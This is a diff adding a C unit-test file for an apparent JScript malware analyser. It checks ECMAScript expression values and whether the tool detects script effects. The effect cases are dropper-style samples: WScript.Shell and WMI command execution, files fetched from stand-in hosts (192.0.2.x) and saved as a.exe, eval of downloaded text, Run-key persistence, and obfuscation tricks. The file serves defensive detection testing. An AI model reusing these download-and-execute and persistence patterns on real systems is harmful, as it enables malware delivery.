@@ -1,0 +1,366 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* Scripts by hand: values against ECMA-262, and what scripts do and how certain that is. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <cmocka.h>
+
+#include "base/buf.h"
+#include "tests/table.h"
+#include "unmask/harness.h"
+
+/* --- values: RESULT is run */
+
+static const struct value {
+    const char *name, *code, *want; /* code gives a value to the variable r */
+} values[] = {
+    /* 6.1.6.1.20 Number::toString */
+    { "shortest digits", "r=0.1+0.2", "0.30000000000000004" },
+    { "exponent from 1e21", "r=[1e21,123456789012345680000,1e-7,0.000001,1/3]+''",
+      "1e+21,123456789012345680000,1e-7,0.000001,0.3333333333333333" },
+    { "least and most", "r=[5e-324,1.7976931348623157e308,-0,1e300*1e10]+''",
+      "5e-324,1.7976931348623157e+308,0,Infinity" },
+    { "radix", "r=(255).toString(16)+(-35).toString(36)+(5)['toString'](2)", "ff-z101" },
+    /* 7.1.4 ToNumber, 7.1.6 ToInt32 */
+    { "numbers of text", "r=[+'0x1F',+' 12 ',+'',+'1e3',+'1x',+[],+['7'],+null]+''",
+      "31,12,0,1000,NaN,0,7,0" },
+    { "32 bits", "r=[1<<31,4294967295|0,-1>>>0,-1>>>28,~5,2147483648^0,1<<33]+''",
+      "-2147483648,-1,4294967295,15,-6,-2147483648,2" },
+    { "remainder keeps the sign", "r=[-5%3,5%-3,5.5%2]+''", "-2,2,1.5" },
+    /* 13.15.3: + of what is no number */
+    { "coercions of +", "r=[]+{}+[1,2]+null+undefined+true",
+      "[object Object]1,2nullundefinedtrue" },
+    { "numbers before text", "r=1+2+'3'+4+5", "3345" },
+    { "jsfuck letters", "r=(![]+[])[+[]]+([][[]]+[])[+!+[]]+(!![]+[])[+!![]]", "fnr" },
+    /* 7.2.15 */
+    { "loose equality",
+      "r=[null==undefined,null==0,'1'==1,[1]==1,NaN==NaN,'b'>'a','10'<'9',10<9]+''",
+      "true,false,true,true,false,true,true,false" },
+    /* 22.1.3 String */
+    { "parts",
+      "r='abcdef'.substring(4,1)+'|'+'abcdef'.slice(-3,-1)+'|'+'abcdef'.substr(2,2)+'|'+'abc'."
+      "charAt(9)",
+      "bcd|de|cd|" },
+    { "substr of the script host", "r='abcdef'.substr(-2)", "abcdef" },
+    { "split and join", "r='a1b2c'.split(/\\d/).reverse().join('-')", "c-b-a" },
+    { "split of nothing", "r='abc'.split('').join('.')+'x'.split('y').length", "a.b.c1" },
+    { "split with a limit", "r='a,b,c'.split(',',2)+''", "a,b" },
+    { "replace once", "r='aXbXc'.replace('X','$&$&-')", "aXX-bXc" },
+    { "replace all with groups", "r='john smith'.replace(/(\\w+) (\\w+)/g,'$2, $1')",
+      "smith, john" },
+    { "replace with a function",
+      "r='a-b-c'.replace(/-(.)/g,function(m,x,i){return x.toUpperCase()+i})", "aB1C3" },
+    { "from codes", "r=String.fromCharCode(99,97.9,65536+108)+unescape('%63%u0041%zz')",
+      "calcA%zz" },
+    { "looking for",
+      "r=['abcabc'.indexOf('c',3),'abcabc'.lastIndexOf('a'),'abc'.indexOf(''),'abc'.indexOf('z')]+'"
+      "'",
+      "5,3,0,-1" },
+    { "case and blanks", "r=' aBc\\t'.trim().toUpperCase()+'ÀÉ'.toLowerCase()", "ABCàé" },
+    { "padding", "r='7'.padStart(3,'0')+'ab'.repeat(2)+'x'.padEnd(3,'yz')", "007ababxyz" },
+    /* 22.2 RegExp */
+    { "lazy and greedy", "r=/a.*?b/.exec('xaabab')[0]+/a.*b/.exec('xaabab')[0]", "aabaabab" },
+    { "alternatives", "r='cat dog bird'.match(/bird|dog|cat/g).join()", "cat,dog,bird" },
+    { "counts", "r='aaaa'.replace(/a{2,3}/,'x')+'aaaa'.replace(/a{1}?/,'y')+/x{2}/.test('x')",
+      "xayaaafalse" },
+    { "look ahead", "r='price100 price'.replace(/price(?=\\d)/g,'P')+/a(?!b)/.test('ab')",
+      "P100 pricefalse" },
+    { "back reference", "r=/(a)(b)?\\1/.exec('xaa').join('|')", "aa|a|" },
+    { "sets", "r='a-b_c9'.replace(/[^\\w-]|[9_]/g,'.')+/^[\\s\\S]$/.test('\\n')", "a-b.c.true" },
+    { "ignoring case", "r='aBAb'.split(/b/i).length+/[a-z]+/i.exec('1XYz')[0]", "2XYz" },
+    { "lines", "r='a\\nb'.replace(/^/gm,'>')", ">a\n>b" },
+    { "last index", "var x=/o/g,n=0;while(x.exec('foo boo'))n++;r=n+'|'+x.lastIndex", "4|0" },
+    { "a round that takes nothing", "r='abc'.replace(/(?:)*/g,'-')+/(a*)*b/.test('aac')",
+      "-a-b-c-false" },
+    /* 23.1.3 Array */
+    { "array methods",
+      "var "
+      "a=[3,1,2];a.push(9);a.unshift(0);r=a.splice(1,2)+'|'+a+'|'+a.concat([7],8).slice(-3)+'|'+a."
+      "sort()",
+      "3,1|0,2,9|9,7,8|0,2,9" },
+    { "sorted as text", "r=[10,9,1].sort()+'|'+[10,9,1].sort(function(a,b){return a-b})",
+      "1,10,9|1,9,10" },
+    { "callbacks",
+      "r=[1,2,3,4].filter(function(x){return x%2}).map(function(x,i){return "
+      "x*10+i}).reduce(function(a,b){return a+b},'')",
+      "1031" },
+    { "holes in lists", "var a=[];a[3]='x';r=a.length+a.join('-')+[1,,2].length", "4---x3" },
+    { "length cuts", "var a=[1,2,3];a.length=1;r=a+''+a[1]", "1undefined" },
+    { "arrays as keys", "var o={};o[[1,2]]='k';r=o['1,2']", "k" },
+    /* scopes and functions: 9.1, 10.2 */
+    { "hoisting", "r=typeof f+typeof v;function f(){}var v=1;", "functionundefined" },
+    { "closures", "function c(){var n=0;return function(){return ++n}}var x=c();x();r=x()+c()()",
+      "3" },
+    { "let of each round",
+      "var f=[];for(let i=0;i<3;i++)f.push(function(){return i});r=f[0]()+''+f[2]()", "02" },
+    { "this", "var o={a:5,f:function(){return this.a}};r=o.f()+(function(){return typeof this})()",
+      "5object" },
+    { "arguments", "function f(){return arguments.length+arguments[1]}r=f(1,'b',3)", "3b" },
+    { "apply and call", "r=Math.max.apply(null,[1,5,3])+String.fromCharCode.call(null,65)", "5A" },
+    { "prototypes",
+      "String.prototype.d=function(){return this.split('').reverse().join('')};r='clac'.d()",
+      "calc" },
+    { "constructors",
+      "function P(x){this.x=x}P.prototype.g=function(){return this.x+1};r=new P(4).g()+String(new "
+      "P(1) instanceof P)",
+      "5true" },
+    { "getters", "r=({get a(){return 'g'},set a(v){}}).a", "g" },
+    { "recursion", "function f(n){return n<2?1:n*f(n-1)}r=f(10)", "3628800" },
+    /* 14 */
+    { "switch falls through",
+      "var s='';switch(2){case 1:s+='1';case 2:s+='2';case 3:s+='3';break;default:s+='d'}r=s",
+      "23" },
+    { "labels",
+      "var s='';o:for(var i=0;i<3;i++){for(var j=0;j<3;j++){if(j==1)continue o;if(i==2)break "
+      "o;s+=i+''+j}}r=s",
+      "0010" },
+    { "for in", "var s='';for(var k in {a:1,b:2})s+=k;for(var i in ['x','y'])s+=i;r=s", "ab01" },
+    { "try", "var s='';try{throw new Error('e')}catch(x){s+=x.message}finally{s+='f'}r=s", "ef" },
+    { "errors of the language",
+      "var "
+      "s='';try{nothing()}catch(e){s+='R'}try{null.x}catch(e){s+='T'}try{(1)()}catch(e){s+='C'}r=s",
+      "RTC" },
+    { "with", "with({r2:'w'}){r=r2}", "w" },
+    { "comma and conditions", "r=(1,2,3)+(0?'a':''?'b':'c')+(0||'or')+(1&&'and')", "3corand" },
+    { "do while", "var i=0;do{i++}while(i<5);r=i", "5" },
+    { "update", "var i=5;r=i+++ ++i+i--", "19" },
+    { "semicolons", "var a=1\nvar b=2\nr=a\n+b", "3" },
+    { "conditional compilation", "/*@cc_on r='cc'; @*/", "cc" },
+    { "conditional compilation, chosen",
+      "/*@cc_on @*/ /*@if (@_jscript) r='js'; @else @*/ r+='x'; /*@end @*/", "js" },
+    /* later editions */
+    { "arrow and template", "const f=(a,b=2)=>`${a}-${b}`;r=f(1)+[1,2].map(x=>x*2)", "1-22,4" },
+    { "patterns", "let {a,b:[c,...d],e=9}={a:1,b:[2,3,4]};r=[a,c,d,e]+''", "1,2,3,4,9" },
+    { "spread", "r=Math.max(...[1,7],3)+[...'ab',...[1]].join('')", "7ab1" },
+    { "classes",
+      "class A{constructor(x){this.x=x}g(){return this.x}static s(){return 's'}}class B extends "
+      "A{constructor(){super(3)}g(){return super.g()+1}}r=new B().g()+A.s()",
+      "4s" },
+    { "optional", "let o=null;r=(o?.a)+''+(o?\?'d')", "undefinedd" },
+    { "for of", "var s='';for(const [k,v] of Object.entries({a:1}))s+=k+v;r=s", "a1" },
+    { "base64", "r=eval(\"String.fromCharCode(99)+'a'\")+new Function('a','return a+\"c\"')('l')",
+      "calc" },
+    { "a table that is turned until it fits",
+      "var "
+      "t=['30x','a','12b'];(function(n){while(1){try{if(parseInt(t[0])+parseInt(t[2])===42&&t[1]==="
+      "'a')break;t.push(t.shift())}catch(e){t.push(t.shift())}}})();r=t+''",
+      "30x,a,12b" },
+    { "dates that are set", "var d=new Date();d.setFullYear('2015');r=d.getFullYear()+''", "2015" },
+    { "functions have their text", "function f(){/*a*/return 1}r=f.toString().length", "27" },
+    { "escapes", "r='\\x63\\141\\u006c\\\nc'", "calc" },
+    { "encoded parts",
+      "r=encodeURIComponent('a b&é')+decodeURIComponent('%E3%81%82')+escape('é あ')",
+      "a%20b%26%C3%A9あ%E9%20%u3042" },
+};
+
+static struct tally *run_value(const struct value *v)
+{
+    struct buf b = buf_new(1 << 16);
+    buf_text(&b, v->code);
+    buf_text(&b, "\n;new ActiveXObject('WScript.Shell').Run('<'+r+'>')");
+    struct tally *t = tally_unmasked("jscript", NULL, buf_slice(&b));
+    buf_drop(&b);
+    return t;
+}
+
+static void values_of_expressions(void **state)
+{
+    (void)state;
+    struct table t = { 0 };
+    TABLE_EACH(&t, row, values)
+    {
+        struct tally *r = run_value(row);
+        const struct effect *e = tally_effect(r, EFFECT_RUN, 0);
+        slice got = tally_argument(e, "command");
+        tally_check(r);
+        bool known = e && e->known && !e->conditional && got.len >= 2;
+        table_slice(&t, row->name, known ? slice_sub(got, 1, got.len - 2) : got, row->want);
+        tally_drop(&r);
+    }
+}
+
+/* --- effects */
+
+enum certainty { KNOWN, CONDITIONAL, PARTIAL, NONE };
+
+static const struct row {
+    const char *name, *code;
+    enum effect_kind kind;
+    const char *argument, *want;
+    enum certainty certainty;
+} cases[] = {
+    { "run", "new ActiveXObject('WScript.Shell').Run('ca'+'lc')", EFFECT_RUN, "command", "calc",
+      KNOWN },
+    { "names have no case", "WScript['crEateObject']('wscript.SHELL')['rUN']('calc')", EFFECT_RUN,
+      "command", "calc", KNOWN },
+    { "a method that is taken", "var s=WScript.CreateObject('WScript.Shell');var f=s.Run;f('calc')",
+      EFFECT_RUN, "command", "calc", KNOWN },
+    { "the application that runs",
+      "new ActiveXObject('Shell.Application').ShellExecute('calc','-x','','open',0)", EFFECT_RUN,
+      "command", "calc -x", KNOWN },
+    { "by process class", "GetObject('winmgmts:root\\\\cimv2:Win32_Process').Create('calc')",
+      EFFECT_RUN, "command", "calc", KNOWN },
+    { "by class id", "GetObject('new:72C24DD5-D70A-438B-8A42-98424B88AFB8').Exec('calc')",
+      EFFECT_RUN, "command", "calc", KNOWN },
+    { "environment",
+      "var s=new "
+      "ActiveXObject('WScript.Shell');s.Run(s.ExpandEnvironmentStrings('%temp%')+'\\\\a.exe')",
+      EFFECT_RUN, "command", "%TEMP%\\a.exe", KNOWN },
+    { "fetch and save",
+      "var x=new "
+      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://192.0.2.1/"
+      "a',false);x.send();if(x.status==200){var s=new "
+      "ActiveXObject('ADODB.Stream');s.Open();s.Type=1;s.Write(x.ResponseBody);s.SaveToFile('a.exe'"
+      ",2);}",
+      EFFECT_DOWNLOAD, "path", "a.exe", KNOWN },
+    { "what the answer lets run",
+      "var x=new "
+      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://192.0.2.1/"
+      "a',false);x.send();if(x.status==200)new ActiveXObject('WScript.Shell').Run('calc')",
+      EFFECT_RUN, "command", "calc", CONDITIONAL },
+    { "the next address",
+      "var u=['http://192.0.2.1/a','http://192.0.2.2/b'];for(var i=0;i<u.length;i++){try{var x=new "
+      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET',u[i],0);x.send();if(x.responseText.length>1000)"
+      "{break}}catch(e){}}",
+      EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
+    { "eval of what is fetched",
+      "var x=new "
+      "ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://192.0.2.1/"
+      "a',0);x.send();eval(x.responseText.split('q').join(''))",
+      EFFECT_RUN, "command", "⟂", PARTIAL },
+    { "random is not known", "new ActiveXObject('WScript.Shell').Run('a'+Math.random()+'.exe')",
+      EFFECT_RUN, "command", "a⟂.exe", PARTIAL },
+    { "one of two ways",
+      "var c='x';if(new Date().getHours()>5){c='calc'}else{c='cmd'}new "
+      "ActiveXObject('WScript.Shell').Run(c)",
+      EFFECT_RUN, "command", "⟂", PARTIAL },
+    { "both ways alike",
+      "var c='x';if(new Date().getHours()>5){c='calc'}else{c='ca'+'lc'}new "
+      "ActiveXObject('WScript.Shell').Run(c)",
+      EFFECT_RUN, "command", "calc", KNOWN },
+    { "behind an open condition",
+      "if(new Date().getHours()>5)new ActiveXObject('WScript.Shell').Run('calc')", EFFECT_RUN,
+      "command", "calc", CONDITIONAL },
+    { "a way that left",
+      "function f(){if(Math.random()>0.5)return 'a';return 'b'}new "
+      "ActiveXObject('WScript.Shell').Run(f())",
+      EFFECT_RUN, "command", "⟂", PARTIAL },
+    { "an unknown loop",
+      "var c='';while(Math.random()<0.5){c+='x'}new ActiveXObject('WScript.Shell').Run('a'+c)",
+      EFFECT_RUN, "command", "a⟂", PARTIAL },
+    { "a list that differs",
+      "var a=['calc'];if(Math.random()<0.5)a.push('b');new "
+      "ActiveXObject('WScript.Shell').Run(a.join(''))",
+      EFFECT_RUN, "command", "⟂", PARTIAL },
+    { "taken back",
+      "var a=['calc'];if(Math.random()<0.5){a[0]='b';a[0]='calc'}new "
+      "ActiveXObject('WScript.Shell').Run(a[0])",
+      EFFECT_RUN, "command", "calc", KNOWN },
+    { "condition that does not hold", "if(1==2)new ActiveXObject('WScript.Shell').Run('calc')",
+      EFFECT_RUN, "command", "", NONE },
+    { "behind the end", "WScript.Quit(0);new ActiveXObject('WScript.Shell').Run('calc')",
+      EFFECT_RUN, "command", "", NONE },
+    { "behind an error", "nothing.here();new ActiveXObject('WScript.Shell').Run('calc')",
+      EFFECT_RUN, "command", "", NONE },
+    { "a function that nobody calls",
+      "function f(){new ActiveXObject('WScript.Shell').Run('calc')}", EFFECT_RUN, "command", "",
+      NONE },
+    { "comment",
+      "// new ActiveXObject('WScript.Shell').Run('calc')\n/* new "
+      "ActiveXObject('WScript.Shell').Run('calc') */",
+      EFFECT_RUN, "command", "", NONE },
+    { "code in code in code",
+      "eval(\"eval('new ActiveXObject(\\\"WScript.Shell\\\").Run(\\\"calc\\\")')\")", EFFECT_RUN,
+      "command", "calc", KNOWN },
+    { "code of a hole", "eval('new ActiveXObject(\"WScript.Shell\").Run(\"a'+Math.random()+'\")')",
+      EFFECT_RUN, "command", "a⟂", PARTIAL },
+    { "lasting",
+      "new "
+      "ActiveXObject('WScript.Shell').RegWrite('"
+      "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\x','a.js')",
+      EFFECT_PERSIST, "value", "a.js", KNOWN },
+    { "a text file",
+      "var f=new "
+      "ActiveXObject('Scripting.FileSystemObject'),t=f.CreateTextFile(f.GetSpecialFolder(2)+'\\\\a."
+      "txt');t.Write('x');t.Close()",
+      EFFECT_WRITE, "path", "%TEMP%\\a.txt", KNOWN },
+    { "handed on", "new ActiveXObject('WScript.Shell').Run('cmd /c start calc')", EFFECT_RUN,
+      "command", "calc", KNOWN },
+    { "endless loop", "while(true){var a=1}", EFFECT_RUN, "command", "", NONE },
+    { "endless calls", "function f(){f()}f();", EFFECT_RUN, "command", "", NONE },
+    { "endless text", "var s='x';while(true)s+=s", EFFECT_RUN, "command", "", NONE },
+    { "endless list", "var s=[1];while(true)s=s.concat(s)", EFFECT_RUN, "command", "", NONE },
+    { "endless expression",
+      "/(x+x+)+y/.test('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx');", EFFECT_RUN,
+      "command", "", NONE },
+    { "a list in itself", "var a=[];a[0]=a;new ActiveXObject('WScript.Shell').Run('x'+a.length)",
+      EFFECT_RUN, "command", "x1", KNOWN },
+    { "broken code", "new ActiveXObject('WScript.Shell').Run('calc');var x = = 3", EFFECT_RUN,
+      "command", "calc", PARTIAL },
+};
+
+static bool fits(const struct effect *e, enum certainty c)
+{
+    return c == KNOWN         ? e->known && !e->conditional
+           : c == CONDITIONAL ? e->known && e->conditional
+                              : !e->known;
+}
+
+static void effects(void **state)
+{
+    (void)state;
+    struct table t = { 0 };
+    TABLE_EACH(&t, row, cases)
+    {
+        struct tally *r = tally_unmasked("jscript", NULL, slice_of(row->code));
+        const struct effect *e = NULL;
+        bool found = false;
+        for (size_t n = 0; !found && (e = tally_effect(r, row->kind, n)) != NULL; n++)
+            found =
+                slice_is(tally_argument(e, row->argument), row->want) && fits(e, row->certainty);
+        tally_check(r);
+        if (row->certainty == NONE ? tally_effect(r, row->kind, 0) != NULL : !found)
+            table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument),
+                        "(as in the table)");
+        tally_drop(&r);
+    }
+}
+
+static const char busy[] =
+    "var a='x',b=[1,,2],c={d:function(e){return e*2}};for(var i in "
+    "b)if(Math.random()>i)a+=c.d(i);else b.push(a);\n"
+    "try{eval('var q=/[a-z](b|c)*?/gi.exec(a)')}catch(e){}finally{a=`t${a}`}let {z=1,...y}=c;class "
+    "K extends Object{m(){}}\n"
+    "switch(a){case 1:break;default:new "
+    "ActiveXObject('WScript.Shell').Run('a'+a.replace(/./g,x=>x))}";
+
+static void every_beginning(void **state)
+{
+    (void)state;
+    slice whole = slice_of(busy);
+    for (size_t n = 0; n < whole.len; n++) {
+        struct tally *r = tally_unmasked("jscript", NULL, slice_sub(whole, 0, n));
+        tally_check(r);
+        tally_drop(&r);
+    }
+}
+
+static void memory_fails_anywhere(void **state)
+{
+    (void)state;
+    for (size_t n = 1; n < 600; n += n < 60 ? 1 : 7) {
+        struct tally_options o = { .fail_at = n };
+        struct tally *r = tally_unmasked("jscript", &o, slice_of(busy));
+        tally_check(r);
+        tally_drop(&r);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = { cmocka_unit_test(values_of_expressions),
+                                        cmocka_unit_test(effects),
+                                        cmocka_unit_test(every_beginning),
+                                        cmocka_unit_test(memory_fails_anywhere) };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
